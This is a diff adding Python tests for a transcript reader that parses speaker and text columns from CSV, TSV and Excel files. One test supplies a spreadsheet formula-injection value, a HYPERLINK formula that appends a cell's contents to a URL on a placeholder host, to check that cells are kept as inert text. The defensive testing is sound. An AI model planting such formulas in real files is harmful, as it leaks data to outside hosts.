@@ -1,0 +1,89 @@
+"""Tables: columns found by name and by content, in any order and any separator."""
+
+import datetime
+import io
+
+import pytest
+from openpyxl import Workbook
+
+from inspired_analysis.errors import ReadingError
+from inspired_analysis.reading import read
+
+
+def book(rows, **sheets) -> bytes:
+    workbook = Workbook()
+    for row in rows:
+        workbook.active.append(row)
+    for name, others in sheets.items():
+        sheet = workbook.create_sheet(name)
+        for row in others:
+            sheet.append(row)
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("speaker,minute,text\nAnna,01:20,\"Yes, so.\"\nBen,01:25,No.\nAnna,01:30,Why?\n", "a.csv"),
+        ("Sprecher;Text;Beginn\nAnna;Yes, so.;80\nBen;No.;85\nAnna;Why?;90\n", "b.csv"),
+        ("0:01:20\tAnna\tYes, so.\n0:01:25\tBen\tNo.\n0:01:30\tAnna\tWhy?\n", "c.tsv"),
+        ("id|Utterance|Who|Start|End\n1|Yes, so.|Anna|1:20|1:22\n2|No.|Ben|1:25|1:26\n3|Why?|Anna|1:30|\n", "d.csv"),
+    ],
+)  # fmt: skip
+def test_columns_are_found(text, name, write, said):
+    transcript = read(write(text, name))
+    assert said(transcript) == [("Anna", "Yes, so."), ("Ben", "No."), ("Anna", "Why?")]
+    assert list(transcript.turns["time_start"]) == [80.0, 85.0, 90.0]
+    assert transcript.accounts[0].lost == 0
+    assert transcript.turns["source"][1].endswith(":row 3" if name != "c.tsv" else ":row 2")
+
+
+def test_milliseconds_are_known_by_their_size(write):
+    rows = "\n".join(f"Speaker {i % 2},{i * 4000},Sentence number {i}." for i in range(20))
+    assert list(read(write(f"speaker,start,text\n{rows}", "a.csv")).turns["time_start"])[:3] == [0.0, 4.0, 8.0]
+
+
+def test_other_columns_and_sheets_are_set_aside_with_what_stood_there(write, said):
+    rows = [
+        ("Name", "What was said", "Text", "Comment by coder"),
+        ("Anna", "", "I think so.", "nice"),
+        ("Ben", "", "No.", None),
+    ]
+    transcript = read(write(book(rows, Notes=[("Remember the milk",)]), "talk.xlsx"))
+    assert said(transcript) == [("Anna", "I think so."), ("Ben", "No.")]
+    excerpts = transcript.accounts[0].excerpts
+    assert excerpts["other columns"] == ("nice",)
+    assert excerpts["other sheets"] == ("Remember the milk",)
+    assert any("others were left out: Notes" in note for note in transcript.notes)
+
+
+def test_times_and_durations_of_a_workbook_are_seconds(write):
+    anna = (datetime.time(0, 1, 20), datetime.timedelta(seconds=85), "Anna", "Yes, so.")
+    rows = [("start", "end", "speaker", "text"), anna, (90, 95.5, "Ben", "No.")]
+    turns = read(write(book(rows), "talk.xlsx")).turns
+    assert list(turns["time_start"]) == [80.0, 90.0]
+    assert list(turns["time_end"]) == [85.0, 95.5]
+
+
+def test_cells_of_any_kind_are_text_never_run(write, said):
+    text = 'speaker,text\n"=HYPERLINK(""http://x.example/?""&A2)",hello you\n@SUM(1),"-1, no."\nAnna,=1+1 is two.\n'
+    labels = [label for label, _ in said(read(write(text, "a.csv")))]
+    assert labels == ['=HYPERLINK("http://x.example/?"&A2)', "@SUM(1)", "Anna"]
+
+
+def test_a_table_without_text_is_refused(write):
+    for content, name in (("a,b\n1,2\n3,4\n", "a.csv"), (book([(1, 2), (3, 4)]), "a.xlsx"), (book([]), "b.xlsx")):
+        with pytest.raises(ReadingError, match="column of text"):
+            read(write(content, name))
+
+
+def test_a_workbook_that_says_it_is_huge_is_read_by_what_it_holds(write):
+    workbook = Workbook()
+    workbook.active.append(("speaker", "text"))
+    workbook.active.append(("Anna", "I think so."))
+    workbook.active.cell(row=900_000, column=1, value="x")
+    out = io.BytesIO()
+    workbook.save(out)
+    assert read(write(out.getvalue(), "talk.xlsx")).turns["text"][0] == "I think so."
